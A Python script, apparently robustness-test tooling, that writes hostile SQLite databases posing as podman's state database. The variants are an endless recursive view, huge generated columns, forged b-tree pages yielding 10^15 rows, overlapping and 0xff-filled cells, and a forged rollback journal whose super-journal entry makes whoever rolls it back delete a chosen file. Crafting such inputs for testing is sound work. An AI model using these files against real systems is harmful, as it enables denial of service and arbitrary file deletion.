#!/usr/bin/env python3
"""hostile-sqlite.py KIND FILE [SUPER]: writes the database of a podman that means harm.

view       ContainerConfig is a view whose query never ends
generated  a column of it is 800 MB of text, made when it is read
virtual    it is a virtual table, whose rows a module makes
chain      its tree has twelve levels of twenty children that are all the same page: 10^15 rows
overlap    its rows are 8,000 times the same 60 KB
cells      a page of it is filled with 0xff
journal    sound, with a journal of a transaction that was cut off, which names SUPER as its super-journal: whoever rolls it
           back removes that file
sound      nothing wrong with it
"""
import json
import sqlite3
import struct
import sys

ID = 'ab' * 32
NAME = 'inthedb'
CONFIG = json.dumps({'id': ID, 'name': NAME})
STATE = json.dumps({'state': 6, 'exitCode': 3})
OTHERS = '''
CREATE TABLE DBConfig(GraphRoot TEXT, RunRoot TEXT, TmpDir TEXT, VolumeDir TEXT);
CREATE TABLE PodConfig(ID TEXT, Name TEXT);
CREATE TABLE ContainerState(ID TEXT, JSON TEXT);
CREATE TRIGGER t AFTER INSERT ON ContainerState BEGIN DELETE FROM PodConfig; END;
'''
TABLE = 'CREATE TABLE ContainerConfig(ID TEXT, Name TEXT, PodID TEXT, JSON TEXT);'
KINDS = {
    'view': '''CREATE VIEW ContainerConfig AS WITH RECURSIVE c(ID, Name, PodID, JSON) AS
        (SELECT 1, 2, 3, 4 UNION ALL SELECT ID + 1, Name, PodID, JSON FROM c) SELECT * FROM c WHERE ID < 0''',
    'generated': '''CREATE TABLE ContainerConfig(ID TEXT, Name TEXT, PodID TEXT, JSON TEXT AS (hex(zeroblob(400000000))) VIRTUAL);
        INSERT INTO ContainerConfig(ID, Name) VALUES('%s', '%s')''' % (ID, NAME),
    'virtual': '''CREATE VIRTUAL TABLE ContainerConfig USING fts4(ID, Name, PodID, JSON);
        INSERT INTO ContainerConfig(ID, Name) VALUES('%s', '%s')''' % (ID, NAME),
}


def make(path, kind, page_size):
    db = sqlite3.connect(path)
    db.execute(f'PRAGMA page_size = {page_size}')
    db.executescript(OTHERS + KINDS.get(kind, TABLE))
    if kind not in KINDS:
        # "overlap": large, but not so that it needs another page
        pad = json.dumps({'id': ID, 'name': NAME, 'pad': 'x' * 60000}) if kind == 'overlap' else CONFIG
        db.execute('INSERT INTO ContainerConfig VALUES(?, ?, NULL, ?)', (ID, NAME, pad))
    db.execute('INSERT INTO ContainerState VALUES(?, ?)', (ID, STATE))
    db.commit()
    row = db.execute("SELECT rootpage FROM sqlite_master WHERE name = 'ContainerConfig'").fetchone()
    db.close()
    return row[0] if row else 0


def interior(child, size):
    """A page whose twenty children are all the same one."""
    page = bytearray(size)
    at = size
    for n in range(19):
        at -= 5
        page[at:at + 5] = struct.pack('>IB', child, n + 1)
        struct.pack_into('>H', page, 12 + 2 * n, at)
    struct.pack_into('>BHHHBI', page, 0, 5, 0, 19, at, 0, child)
    return bytes(page)


def chain(data, root, size):
    at = (root - 1) * size
    leaf = data[at:at + size]
    first = len(data) // size + 1
    data[at:at + size] = interior(first, size)
    for n in range(11):
        data += interior(first + n + 1, size)
    data += leaf
    # pages in all, which count when version-valid-for is the change counter
    struct.pack_into('>I', data, 28, len(data) // size)


def overlap(data, root, size):
    at = (root - 1) * size
    cell = struct.unpack_from('>H', data, at + 8)[0]
    n = min(8000, (cell - 8) // 2)
    struct.pack_into('>H', data, at + 3, n)
    for i in range(n):
        struct.pack_into('>H', data, at + 8 + 2 * i, cell)


def cells(data, root, size):
    at = (root - 1) * size
    data[at + 1:at + size] = b'\xff' * (size - 1)


def journal(path, data, size, super_name):
    """sqlite.org/fileformat2.html, "The Rollback Journal"; its end as pager.c reads it."""
    page, name = bytes(data[:size]), super_name.encode()
    head = bytes.fromhex('d9d505f920a163d7') + struct.pack('>IIIII', 1, 0, len(data) // size, 512, size)
    record = struct.pack('>I', 1) + page + struct.pack('>I', sum(page[i] for i in range(size - 200, 0, -200)))
    # the page number of the locking byte stands before it, which no record can have
    end = struct.pack('>I', (1 << 30) // size + 1) + name + struct.pack('>II', len(name), sum(name)) + head[:8]
    with open(path + '-journal', 'wb') as f:
        f.write(head.ljust(512, b'\0') + record + end)


def main(kind, path, super_name=''):
    size = {'chain': 512, 'overlap': 65536}.get(kind, 4096)
    root = make(path, kind, size)
    with open(path, 'rb') as f:
        data = bytearray(f.read())
    if kind == 'journal':
        journal(path, data, size, super_name)
    elif kind in ('chain', 'overlap', 'cells'):
        globals()[kind](data, root, size)
        with open(path, 'wb') as f:
            f.write(data)


main(*sys.argv[1:])
